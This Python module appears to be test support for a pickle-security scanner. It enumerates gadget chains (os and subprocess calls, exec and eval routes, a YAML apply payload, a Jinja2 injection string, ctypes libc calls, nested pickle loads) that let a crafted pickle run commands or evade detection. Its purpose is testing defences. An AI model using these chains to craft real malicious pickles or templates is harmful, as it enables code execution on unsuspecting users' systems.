"""Names that a pickle can call to run something: from scanners' lists, their bypass reports, and from reading."""

from __future__ import annotations

from collections.abc import Iterator

from support.hostile.assembler import (
    ARGUMENTS,
    EVIL,
    MARK,
    PYTHON,
    SHELL,
    SYSTEM,
    Code,
    Hostile,
    attribute,
    call,
    method,
    name,
    path,
    sample,
    stack_name,
    value,
)

_OS = name("os", "system")
_WRITTEN = method(call("pathlib:Path", "written.py"), "write_text", PYTHON)
_NAMESPACE = call("builtins:dict")


def called_names() -> Iterator[Hostile]:
    """One sample for each way to run something through a name."""
    for trick, rows in _TABLE.items():
        for label, needs, parts in rows:
            yield sample(trick, label, *parts, needs=needs)


def _plain(*rows: tuple[str, tuple[object, ...]], needs: str = "") -> list[tuple[str, str, tuple[Code, ...]]]:
    """Functions that are called with plain arguments."""
    return [(function.replace(":", "."), needs, (call(function, *arguments),)) for function, arguments in rows]


_TABLE: dict[str, list[tuple[str, str, tuple[Code, ...]]]] = {
    "programs of os": _plain(
        ("os:system", (SHELL,)),
        ("posix:system", (SHELL,)),
        ("os:popen", (SHELL,)),
        ("os:execl", ("/bin/sh", *ARGUMENTS)),
        ("os:execlp", ("sh", *ARGUMENTS)),
        ("os:execv", ("/bin/sh", ARGUMENTS)),
        ("os:execvp", ("sh", ARGUMENTS)),
        ("posix:execv", ("/bin/sh", ARGUMENTS)),
        ("os:spawnl", (0, "/bin/sh", *ARGUMENTS)),
        ("os:spawnlp", (0, "sh", *ARGUMENTS)),
        ("os:spawnv", (0, "/bin/sh", ARGUMENTS)),
        ("os:posix_spawn", ("/bin/sh", ARGUMENTS, {})),
        ("posix:posix_spawnp", ("sh", ARGUMENTS, {})),
    ),
    "programs of subprocess": _plain(
        ("subprocess:Popen", (ARGUMENTS,)),
        ("subprocess:call", (ARGUMENTS,)),
        ("subprocess:run", (ARGUMENTS,)),
        ("subprocess:check_call", (ARGUMENTS,)),
        ("subprocess:check_output", (ARGUMENTS,)),
        ("subprocess:getoutput", (SHELL,)),
        ("subprocess:getstatusoutput", (SHELL,)),
        ("pty:spawn", (ARGUMENTS,)),
        ("multiprocessing.util:spawnv_passfds", (b"/bin/sh", [b"sh", b"-c", SHELL.encode()], ())),
    ),
    "programs under another roof": [
        *_plain(
            ("uuid:_get_command_stdout", ("sh", "-c", SHELL)),
            ("_osx_support:_read_output", (SHELL,)),
            ("imaplib:IMAP4_stream", (SHELL,)),
            ("pydoc:pipepager", ("x", f"cat>{MARK}")),
            ("pydoc:tempfilepager", ("x", f"{SHELL};cat")),
            ("distutils.spawn:spawn", (ARGUMENTS,)),
            ("mailcap:findmatch", ({"a/b": [{"view": "x", "test": SHELL}]}, "a/b")),
        ),
        *_plain(("psutil:Popen", (ARGUMENTS,)), needs="psutil"),
        *_plain(("torch.utils.collect_env:run", (SHELL,)), needs="torch"),
        ("webbrowser", "", (method(call("webbrowser:GenericBrowser", ARGUMENTS), "open", "x"),)),
        ("webbrowser-background", "", (method(call("webbrowser:BackgroundBrowser", ARGUMENTS), "open", "x"),)),
        ("pip-log", "pip", (call("pip._internal.cli.main:main", ["--log", MARK, "list"]),)),
        ("ensurepip", "pip", (call("ensurepip:_run_pip", ["--log", MARK, "list"]),)),
    ],
    "code from text": [
        *_plain(
            ("builtins:eval", (PYTHON,)),
            ("builtins:exec", (PYTHON,)),
            ("timeit:timeit", (PYTHON, "pass")),
            ("timeit:main", (["-n1", "-r1", PYTHON],)),
            ("timeit:repeat", (PYTHON, "pass")),
            ("cProfile:run", (PYTHON,)),
            ("cProfile:runctx", (PYTHON, _NAMESPACE, _NAMESPACE)),
            ("profile:run", (PYTHON,)),
            ("doctest:debug_script", (PYTHON, True)),
        ),
        ("builtins.compile", "", (call("builtins:exec", call("builtins:compile", PYTHON, "x", "exec")),)),
        ("bdb.Bdb", "", (method(call("bdb:Bdb"), "run", PYTHON),)),
        ("trace.Trace", "", (method(call("trace:Trace"), "run", PYTHON),)),
        ("profile.Profile", "", (method(call("profile:Profile"), "run", PYTHON),)),
        ("cProfile.Profile", "", (method(call("cProfile:Profile"), "run", PYTHON),)),
        ("code.InteractiveInterpreter", "", (method(call("code:InteractiveInterpreter"), "runsource", PYTHON),)),
        ("code.InteractiveConsole", "", (method(call("code:InteractiveConsole"), "push", PYTHON),)),
        ("codeop", "", (call("builtins:exec", call("codeop:compile_command", PYTHON)),)),
        (
            "logging.config",
            "",
            (
                call(
                    "logging.config:dictConfig",
                    {
                        "version": 1,
                        "handlers": {"a": {"()": "os.system", "command": SHELL}},
                        "root": {"handlers": ["a"]},
                    },
                ),
            ),
        ),  # fmt: skip
        (
            "typing.ForwardRef",
            "",
            (
                method(
                    call("typing:ForwardRef", PYTHON), "_evaluate", _NAMESPACE, _NAMESPACE, call("builtins:frozenset")
                ),
            ),
        ),  # fmt: skip
    ],
    "code from a file": [
        ("runpy.run_path", "", (_WRITTEN, call("runpy:run_path", "written.py"))),
        ("runpy.run_module", "", (_WRITTEN, call("site:addsitedir", "."), call("runpy:run_module", "written"))),
        (
            "importlib.import_module",
            "",
            (_WRITTEN, call("site:addsitedir", "."), call("importlib:import_module", "written")),
        ),
        ("builtins.__import__", "", (_WRITTEN, call("site:addsitedir", "."), call("builtins:__import__", "written"))),
        ("the name itself", "", (_WRITTEN, call("site:addsitedir", "."), name("written", "x"))),
        (
            "SourceFileLoader",
            "",
            (_WRITTEN, method(call("importlib.machinery:SourceFileLoader", "w", "written.py"), "load_module")),
        ),
        ("imp", "", (_WRITTEN, call("imp:load_source", "w", "written.py"))),
        (
            "execfile",
            "",
            (_WRITTEN, call("py_compile:compile", "written.py", "w.pyc"), call("runpy:run_path", "w.pyc")),
        ),
        (
            "site .pth",
            "",
            (method(call("pathlib:Path", "a.pth"), "write_text", f"import os;{PYTHON}"), call("site:addsitedir", ".")),
        ),
        (
            "torch.hub",
            "torch",
            (method(call("pathlib:Path", "hubconf.py"), "write_text", PYTHON), call("torch.hub:_load_local", ".", "x")),
        ),
        ("test.support", "", (_WRITTEN, method(call("unittest.loader:TestLoader"), "discover", ".", "written.py"))),
        (
            "doctest.testfile",
            "",
            (
                method(call("pathlib:Path", "t.txt"), "write_text", f">>> {PYTHON}\n"),
                call("doctest:testfile", "t.txt", False),
            ),
        ),
        (
            "zipimport",
            "",
            (
                method(call("zipfile:ZipFile", "w.zip", "w"), "writestr", "written.py", PYTHON),
                method(call("zipimport:zipimporter", "w.zip"), "load_module", "written"),
            ),
        ),
    ],
    "code of libraries": [
        *_plain(
            ("torch.fx.graph_module:_exec_with_source", (PYTHON, _NAMESPACE)),
            ("torch.fx.graph_module:_forward_from_src", (f"{PYTHON}\ndef forward(): pass", _NAMESPACE)),
            ("torch.fx.graph_module:_method_from_src", ("f", f"{PYTHON}\ndef f(): pass", _NAMESPACE)),
            ("torch.fx.graph_module:reduce_graph_module", ({"_code": f"{PYTHON}\ndef forward(self): pass"}, "")),
            ("torch.jit.unsupported_tensor_ops:execWrapper", (PYTHON, _NAMESPACE, _NAMESPACE)),
            ("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", (None, PYTHON, ())),
            needs="torch",
        ),
        *_plain(
            ("numpy.f2py.crackfortran:getlincoef", (PYTHON, {})),
            ("numpy.f2py.crackfortran:myeval", (PYTHON,)),
            ("numpy.f2py.crackfortran:_eval_length", (PYTHON, {})),
            ("numpy.f2py.crackfortran:param_eval", (PYTHON, {}, {})),
            ("numpy.testing._private.utils:runstring", (PYTHON, _NAMESPACE)),
            ("numpy.testing._private.utils:measure", (PYTHON,)),
            needs="numpy",
        ),
        *_plain(
            ("sympy:sympify", (f"__import__('os').system('{SHELL}')",)),
            ("sympy.core.sympify:sympify", (f"__import__('os').system('{SHELL}')",)),
            ("sympy.parsing.sympy_parser:parse_expr", (f"__import__('os').system('{SHELL}')",)),
            ("sympy.parsing.sympy_parser:eval_expr", (PYTHON, _NAMESPACE, {"open": name("builtins", "open")})),
            needs="sympy",
        ),
        *_plain(
            ("yaml:unsafe_load", (f"!!python/object/apply:os.system ['{SHELL}']",)),
            ("yaml:load", (f"!!python/object/apply:os.system ['{SHELL}']", name("yaml", "UnsafeLoader"))),
            needs="yaml",
        ),
        (
            "jinja2.Template",
            "jinja2",
            (
                method(
                    call("jinja2:Template", "{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}"), "render"
                ),
            ),
        ),
        ("jinja2 import_string", "jinja2", (call(call("jinja2.utils:import_string", "os:system"), SHELL),)),
        ("sympy.lambdify", "sympy", (call(call("sympy.utilities.lambdify:lambdify", [], PYTHON)),)),
    ],
    "imports by name": [
        ("importlib.import_module", "", (call(attribute(call("importlib:import_module", "os"), "system"), SHELL),)),
        ("importlib.__import__", "", (call(attribute(call("importlib:__import__", "os"), "system"), SHELL),)),
        ("_gcd_import", "", (call(attribute(call("importlib._bootstrap:_gcd_import", "os"), "system"), SHELL),)),
        ("frozen", "", (call(attribute(call("_frozen_importlib:__import__", "os"), "system"), SHELL),)),
        ("pkgutil.resolve_name", "", (call(call("pkgutil:resolve_name", "os:system"), SHELL),)),
        ("pydoc.locate", "", (call(call("pydoc:locate", "os.system"), SHELL),)),
        ("logging.config._resolve", "", (call(call("logging.config:_resolve", "os.system"), SHELL),)),
        (
            "BaseConfigurator",
            "",
            (call(method(call("logging.config:BaseConfigurator", {}), "resolve", "os.system"), SHELL),),
        ),
        (
            "test.support",
            "",
            (call(attribute(call("test.support.import_helper:import_module", "os"), "system"), SHELL),),
        ),
        (
            "sys.modules",
            "",
            (call(attribute(call("operator:getitem", name("sys", "modules"), "os"), "system"), SHELL),),
        ),
        (
            "cloudpickle.subimport",
            "cloudpickle",
            (call(attribute(call("cloudpickle.cloudpickle:subimport", "os"), "system"), SHELL),),
        ),
    ],
    "aliases in other modules": [
        *(
            (alias.replace(":", "."), needs, (call(alias, SHELL),))
            for alias, needs in (
                ("shutil:os.system", ""),
                ("random:_os.system", ""),
                ("logging:os.system", ""),
                ("argparse:_os.system", ""),
                ("pathlib:os.system", ""),
                ("torch.serialization:os.system", "torch"),
                ("torch.hub:os.system", "torch"),
                ("torch._utils:torch.os.system", "torch"),
                ("numpy.lib._npyio_impl:os.system", "numpy"),
                ("joblib.numpy_pickle:os.system", "joblib"),
                ("sklearn.datasets._base:os.system", "sklearn"),
                ("scipy.io._fast_matrix_market:os.system", "scipy"),
                ("torch.nn.modules.module:torch.os.system", "torch"),
            )
        ),
        ("a module as a name", "", (call(attribute(name("shutil", "os"), "system"), SHELL),)),
        (
            "globals of a function",
            "",
            (
                call(
                    call(
                        "operator:getitem",
                        call("operator:getitem", name("collections", "namedtuple.__globals__"), "__builtins__"),
                        "eval",
                    ),
                    PYTHON,
                ),
            ),
        ),
        (
            "builtins of a module",
            "",
            (call(call("operator:getitem", name("collections", "abc.__builtins__"), "eval"), PYTHON),),
        ),
        ("concurrent.futures", "", (call("concurrent.futures.process:os.system", SHELL),)),
        (
            "a class method",
            "",
            (call(attribute(call("subprocess:Popen.__init__.__globals__.__getitem__", "os"), "system"), SHELL),),
        ),
    ],
    "attributes by name": [
        ("getattr", "", (call(attribute(name("shutil", "os"), "system"), SHELL),)),
        (
            "attrgetter",
            "",
            (call(call(call("operator:attrgetter", "os.system"), call("importlib:import_module", "shutil")), SHELL),),
        ),
        ("inspect.getmodule", "", (call(attribute(call("inspect:getmodule", name("os", "fspath")), "system"), SHELL),)),
        (
            "_operator.attrgetter",
            "",
            (call(call(call("_operator:attrgetter", "system"), call("builtins:__import__", "os")), SHELL),),
        ),
        (
            "methodcaller",
            "",
            (call(call("operator:methodcaller", "system", SHELL), call("builtins:__import__", "os")),),
        ),
        (
            "_operator.methodcaller",
            "",
            (call(call("_operator:methodcaller", "system", SHELL), call("builtins:__import__", "os")),),
        ),
        (
            "object.__getattribute__",
            "",
            (call(call("types:ModuleType.__getattribute__", call("builtins:__import__", "os"), "system"), SHELL),),
        ),
        (
            "reduce of getattr",
            "",
            (
                call(
                    call(
                        "functools:reduce",
                        name("builtins", "getattr"),
                        ["os", "system"],
                        call("builtins:__import__", "shutil"),
                    ),
                    SHELL,
                ),
            ),
        ),
        (
            "vars",
            "",
            (
                call(
                    call("operator:getitem", call("builtins:vars", call("builtins:__import__", "os")), "system"), SHELL
                ),
            ),
        ),
        ("itemgetter", "", (call(call(call("operator:itemgetter", "system"), name("os", "__dict__")), SHELL),)),
        ("dict.get", "", (call(call("builtins:dict.get", name("os", "__dict__"), "system"), SHELL),)),
        (
            "inspect.getattr_static",
            "",
            (call(call("inspect:getattr_static", call("builtins:__import__", "os"), "system"), SHELL),),
        ),
    ],
    "functions that call what they are given": [
        ("operator.call", "", (call("operator:call", _OS, SHELL),)),
        ("functools.partial", "", (call(call("functools:partial", _OS, SHELL)),)),
        ("functools.partial called later", "", (call(call("functools:partial", _OS), SHELL),)),
        ("map", "", (call("builtins:list", call("builtins:map", _OS, [SHELL])),)),
        ("filter", "", (call("builtins:tuple", call("builtins:filter", _OS, [SHELL])),)),
        ("starmap", "", (call("builtins:list", call("itertools:starmap", _OS, [(SHELL,)])),)),
        ("takewhile", "", (call("builtins:list", call("itertools:takewhile", _OS, [SHELL])),)),
        ("groupby", "", (call("builtins:list", call("itertools:groupby", [SHELL], _OS)),)),
        (
            "defaultdict",
            "",
            (call("operator:getitem", call("collections:defaultdict", call("functools:partial", _OS, SHELL)), "x"),),
        ),
        ("threading.Thread", "", (method(call("threading:Thread", None, _OS, None, (SHELL,)), "start"),)),
        ("threading.Timer", "", (method(call("threading:Timer", 0, _OS, (SHELL,)), "start"),)),
        ("_thread", "", (call("_thread:start_new_thread", _OS, (SHELL,)),)),
        ("ThreadPoolExecutor", "", (method(call("concurrent.futures:ThreadPoolExecutor"), "submit", _OS, SHELL),)),
        ("multiprocessing.Process", "", (method(call("multiprocessing:Process", None, _OS, None, (SHELL,)), "start"),)),
        ("ThreadPool", "", (method(call("multiprocessing.pool:ThreadPool", 1), "apply", _OS, (SHELL,)),)),
        ("asyncio", "", (call("asyncio:run", call("asyncio:create_subprocess_shell", SHELL)),)),
        ("asyncio.to_thread", "", (call("asyncio:run", call("asyncio:to_thread", _OS, SHELL)),)),
        ("atexit", "", (call("atexit:register", _OS, SHELL),)),
        ("weakref.finalize", "", (call("weakref:finalize", name("collections", "OrderedDict"), _OS, SHELL),)),
        ("numpy.vectorize", "numpy", (call(call("numpy:vectorize", _OS), SHELL),)),
        ("numpy.frompyfunc", "numpy", (call(call("numpy:frompyfunc", _OS, 1, 1), SHELL),)),
        (
            "rebuild of a type",
            "torch",
            (call("torch._tensor:_rebuild_from_type_v2", _OS, name("torch", "Tensor"), (SHELL,), {}),),
        ),
        ("joblib.delayed", "joblib", (call(call("joblib:Parallel", 1), [call(call("joblib:delayed", _OS), SHELL)]),)),
        (
            "torch checkpoint",
            "torch",
            (call("torch.utils.checkpoint:checkpoint", call("functools:partial", _OS), SHELL),),
        ),
        (
            "copyreg._reconstructor",
            "",
            (call("copyreg:_reconstructor", name("subprocess", "Popen"), name("subprocess", "Popen"), ARGUMENTS),),
        ),
        (
            "copyreg.__newobj__",
            "",
            (call("builtins:tuple", call("copyreg:__newobj__", name("builtins", "map"), _OS, [SHELL])),),
        ),
        ("heapq", "", (call("heapq:nsmallest", 1, [SHELL, SHELL], _OS),)),
    ],
    "machine code": [
        ("ctypes.CDLL", "", (call(attribute(call("ctypes:CDLL", None), "system"), SHELL.encode()),)),
        ("ctypes.PyDLL", "", (call(attribute(call("ctypes:PyDLL", None), "system"), SHELL.encode()),)),
        (
            "ctypes.cdll",
            "",
            (call(attribute(method(name("ctypes", "cdll"), "LoadLibrary", "libc.so.6"), "system"), SHELL.encode()),),
        ),
        ("ctypes.pythonapi", "", (call("ctypes:pythonapi.PyRun_SimpleString", PYTHON.encode()),)),
        (
            "numpy.ctypeslib",
            "numpy",
            (
                call(
                    attribute(call("numpy.ctypeslib:load_library", "libc.so.6", "/lib/x86_64-linux-gnu"), "system"),
                    SHELL.encode(),
                ),
            ),
        ),
    ],
    "files": [
        *_plain(
            ("builtins:open", (MARK, "w")),
            ("io:open", (MARK, "w")),
            ("_io:open", (MARK, "w")),
            ("io:FileIO", (MARK, "w")),
            ("_io:FileIO", (MARK, "w")),
            ("codecs:open", (MARK, "w")),
            ("gzip:open", (MARK, "w")),
            ("bz2:open", (MARK, "w")),
            ("lzma:open", (MARK, "w")),
            ("tarfile:open", (MARK, "w")),
            ("zipfile:ZipFile", (MARK, "w")),
            ("wave:open", (MARK, "w")),
            ("sqlite3:connect", (MARK,)),
            ("logging:FileHandler", (MARK,)),
            ("logging.handlers:RotatingFileHandler", (MARK,)),
            ("os:mkdir", (MARK,)),
            ("os:open", (MARK, 64)),
            ("os:mknod", (MARK,)),
            ("os:symlink", ("/etc/passwd", MARK)),
            ("posix:mkdir", (MARK,)),
            ("shutil:copyfile", ("/etc/hostname", MARK)),
            ("shutil:copytree", ("/etc/apt", MARK)),
            ("distutils.file_util:write_file", (MARK, ["x"])),
            ("distutils.dir_util:mkpath", (MARK,)),
            ("tempfile:mkdtemp", ("", MARK, ".")),
        ),
        *_plain(
            ("numpy:save", (f"{MARK}.npy", [1])),
            ("numpy:savez", (MARK, [1])),
            ("numpy:savetxt", (MARK, [1])),
            ("numpy:memmap", (MARK, "uint8", "w+", 0, 4)),
            ("numpy.lib.format:open_memmap", (MARK, "w+", "uint8", (4,))),
            needs="numpy",
        ),
        *_plain(
            ("torch:save", ([1], MARK)),
            ("torch.serialization:save", ([1], MARK)),
            ("torch:from_file", (MARK, True, 4)),
            ("torch:UntypedStorage.from_file", (MARK, True, 4)),
            needs="torch",
        ),
        *_plain(("joblib:dump", ([1], MARK)), needs="joblib"),
        ("Path.touch", "", (method(call("pathlib:Path", MARK), "touch"),)),
        ("Path.write_text", "", (call("pathlib:Path.write_text", call("pathlib:Path", MARK), "x"),)),
        ("PosixPath.mkdir", "", (call("pathlib:PosixPath.mkdir", call("pathlib:PosixPath", MARK)),)),
        ("socket", "", (method(call("socket:socket", 1), "bind", MARK),)),
        ("tofile", "numpy", (method(call("numpy:array", [1]), "tofile", MARK),)),
    ],
    "further pickles": [
        *_plain(
            ("pickle:loads", (EVIL,)),
            ("_pickle:loads", (EVIL,)),
            ("pickle:_loads", (EVIL,)),
            ("pickle:load", (call("io:BytesIO", EVIL),)),
            ("_pickle:load", (call("_io:BytesIO", EVIL),)),
        ),
        ("pickle.Unpickler", "", (method(call("pickle:Unpickler", call("io:BytesIO", EVIL)), "load"),)),
        ("pickle._Unpickler", "", (method(call("pickle:_Unpickler", call("io:BytesIO", EVIL)), "load"),)),
        *_plain(("dill:loads", (EVIL,)), needs="dill"),
        *_plain(("cloudpickle:loads", (EVIL,)), needs="cloudpickle"),
        *_plain(("pandas:read_pickle", (call("io:BytesIO", EVIL),)), needs="pandas"),
        *_plain(("joblib:load", (call("io:BytesIO", EVIL),)), needs="joblib"),
        (
            "numpy.load",
            "numpy",
            (call(call("functools:partial", name("numpy", "load")), call("io:BytesIO", EVIL), None, True),),
        ),
        ("decoder", "torch", (call("torch.utils.data.datapipes.utils.decoder:basichandlers", "pickle", EVIL),)),
        ("pickle in pickle in pickle", "", (call("pickle:loads", b"\x80\x04" + call("pickle:loads", EVIL) + b"."),)),
        ("multiprocessing reduction", "", (call("multiprocessing.reduction:ForkingPickler.loads", EVIL),)),
        ("multiprocessing connection", "", (call("multiprocessing.connection:_ForkingPickler.loads", EVIL),)),
        (
            "shelve",
            "",
            (
                method(call("dbm.dumb:open", "s", "c"), "__setitem__", b"a", EVIL),
                call("operator:getitem", call("shelve:open", "s"), "a"),
            ),
        ),
        (
            "path of a file",
            "",
            (
                method(call("pathlib:Path", "b"), "write_bytes", EVIL),
                call("pickle:load", call("builtins:open", "b", "rb")),
            ),
        ),
    ],
}


def _of_code() -> list[tuple[str, str, tuple[Code, ...]]]:
    import marshal

    code = marshal.dumps(compile(PYTHON, "x", "exec"))
    loaded = call("marshal:loads", code)
    spaces = {"__builtins__": name("builtins", "__dict__")}
    return [
        ("marshal and exec", "", (call("builtins:exec", loaded),)),
        ("marshal and FunctionType", "", (call(call("types:FunctionType", loaded, spaces)),)),
        ("marshal and LambdaType", "", (call(call("types:LambdaType", loaded, spaces)),)),
        ("runpy._run_code", "", (call("runpy:_run_code", loaded, call("builtins:dict")),)),
        ("types.CodeType", "", (call(call("types:FunctionType", _code_object(), spaces)),)),
        (
            "cloudpickle",
            "cloudpickle",
            (call(call("cloudpickle.cloudpickle:_make_function", loaded, spaces, None, None, None)),),
        ),
        ("dill", "dill", (call(call("dill._dill:_create_function", loaded, spaces)),)),
        ("a generator's frame", "", (call(attribute(call("types:FunctionType", loaded, spaces), "__call__")),)),
    ]


def _code_object() -> Code:
    code = compile(PYTHON, "x", "exec")
    return call(
        "types:CodeType", code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals,
        code.co_stacksize, code.co_flags, code.co_code, tuple(code.co_consts), tuple(code.co_names),
        tuple(code.co_varnames), code.co_filename, code.co_name, code.co_qualname, code.co_firstlineno,
        code.co_linetable, code.co_exceptiontable,
    )  # fmt: skip


_TABLE["code objects"] = _of_code()
